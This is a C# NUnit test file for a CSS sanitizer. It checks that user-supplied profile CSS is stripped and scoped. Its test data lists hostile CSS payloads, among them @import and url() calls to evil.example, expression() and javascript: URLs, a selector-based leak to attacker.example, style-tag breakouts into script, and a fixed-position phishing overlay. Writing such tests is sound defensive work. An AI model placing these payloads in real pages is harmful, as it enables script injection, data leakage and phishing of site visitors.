using Mirage.Infrastructure.Css;

namespace Mirage.Tests.Infrastructure.Css;

/// <summary>Custom CSS is shown in other people's browsers, so each of these is an attack on them.</summary>
public sealed class CssSanitizerHostileInputTests
{
    private static readonly string[] NeverInOutput =
    [
        "<", "expression", "behavior", "binding", "javascript", "data:", "http://", "[", ":has", "fixed", "@import", "content",
    ];

    private static readonly TestCaseData[] Attacks =
    [
        Attack("@import url(https://evil.example/x.css);", "at-rule @import"),
        Attack("body { behavior: url(x.htc) }", "property 'behavior' in 'body'"),
        Attack("div { -moz-binding: url(https://e.example/x.xml#x) }", "property '-moz-binding' in 'div'"),
        Attack("p { width: expression(alert(1)) }", "value of 'width': expression(alert(1))"),
        Attack("p { width: expr/**/ession(alert(1)) }", "value of 'width': expr/**/ession(alert(1))"),
        Attack("p { color: \\65 xpression(1) }", "value of 'color': \\65 xpression(1)"),
        Attack("p { color: red; background: url(javascript:alert(1)) }", "value of 'background': url(javascript:alert(1))"),
        Attack("p { background-image: url(data:image/svg+xml;base64,AAAA) }", "value of 'background-image'"),
        Attack("p { background: url(http://plain.example/x.png) }", "url 'http://plain.example/x.png' (only absolute https URLs)"),
        Attack("p { background: url(//evil.example/x.png) }", "url '//evil.example/x.png' (only absolute https URLs)"),
        Attack("p { background: url(x.png) }", "url 'x.png' (only absolute https URLs)"),
        Attack("p { background-image: image-set(\"x.png\" 1x) }", "value of 'background-image'"),
        Attack("p { cursor: url(https://e.example/c.png), auto }", "url 'https://e.example/c.png' in 'cursor'"),
        Attack("p { filter: url(https://e.example/f.svg#f) }", "url 'https://e.example/f.svg#f' in 'filter'"),
        Attack("a[href^=\"https://bank\"] { background: url(https://attacker.example/leak) }", "selector 'a[href^=\"https://bank\"]'"),
        Attack("div:has(input) { color: red }", "selector 'div:has(input)'"),
        Attack(".x { position: fixed; top: 0; left: 0; width: 100%; height: 100% }", "value of 'position': fixed"),
        Attack(".x { position: sticky }", "value of 'position': sticky"),
        Attack("p::before { content: \"Login here\" }", "property 'content' in 'p::before'"),
        Attack("p { animation-name: spin }", "property 'animation-name' in 'p'"),
        Attack("p { transform: translate3d(0, 0, 1px) }", "value of 'transform': translate3d(0, 0, 1px)"),
        Attack("</style><script>alert(1)</script>", "unreadable CSS"),
        Attack("p { color: red } </style><script>x</script>", "unreadable CSS"),
        Attack("p { color: red</style><script>x</script> }", "value of 'color'"),
        Attack("</style><script>x</script> p { color: red }", "selector '</style><script>x</script> p'"),
        Attack("@font-face { font-family: x; src: url(https://e.example/f.woff) }", "at-rule @font-face"),
        Attack("@keyframes spin { from { color: red } }", "at-rule @keyframes"),
        Attack("@supports (display:grid) { p { color: red } }", "at-rule @supports"),
        Attack("@media print { @import url(https://evil.example/x.css); }", "at-rule @import"),
    ];

    private readonly CssSanitizer _sanitizer = new();

    [TestCaseSource(nameof(Attacks))]
    public void Sanitize_WithAttack_ReportsWhatItRemoved(string css, string removal)
    {
        var result = _sanitizer.Sanitize(css);

        Assert.That(result.Removed, Has.Some.Contains(removal));
    }

    [TestCaseSource(nameof(Attacks))]
    public void Sanitize_WithAttack_WritesNothingDangerous(string css, string removal)
    {
        var result = _sanitizer.Sanitize(css);

        using (Assert.EnterMultipleScope())
        {
            foreach (var forbidden in NeverInOutput)
            {
                Assert.That(result.Css, Does.Not.Contain(forbidden).IgnoreCase, $"{forbidden} survived ({removal})");
                Assert.That(result.Scoped, Does.Not.Contain(forbidden).IgnoreCase, $"{forbidden} survived scoped ({removal})");
            }
        }
    }

    [TestCaseSource(nameof(Attacks))]
    public void Sanitize_WithAttack_ScopesEverySelectorItKeeps(string css, string removal)
    {
        var selectors = _sanitizer.Sanitize(css).Scoped
            .Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Where(line => line.Contains(" { ", StringComparison.Ordinal) && !line.TrimStart().StartsWith('@'))
            .SelectMany(line => line.TrimStart()[..line.TrimStart().IndexOf(" { ", StringComparison.Ordinal)].Split(", "));

        Assert.That(selectors, Has.All.StartsWith(".mirage-profile"), removal);
    }

    [Test]
    public void Sanitize_WithFixedPosition_KeepsTheOtherDeclarations()
    {
        var result = _sanitizer.Sanitize(".x { position: fixed; top: 0; left: 0; width: 100%; height: 100% }");

        Assert.That(result.Css, Is.EqualTo(".x { top: 0; left: 0; width: 100%; height: 100% }"));
    }

    [Test]
    public void Sanitize_WithJavascriptUrlBesideAColor_KeepsTheColor()
    {
        var result = _sanitizer.Sanitize("p { color: red; background: url(javascript:alert(1)) }");

        Assert.That(result.Css, Is.EqualTo("p { color: red }"));
    }

    [Test]
    public void Sanitize_WithStyleTagBreakout_KeepsTheRuleBeforeIt()
    {
        var result = _sanitizer.Sanitize("p { color: red } </style><script>x</script>");

        Assert.That(result.Css, Is.EqualTo("p { color: red }"));
        Assert.That(result.Scoped, Is.EqualTo(".mirage-profile p { color: red }"));
    }

    private static TestCaseData Attack(string css, string removal) => new TestCaseData(css, removal).SetArgDisplayNames(css);
}
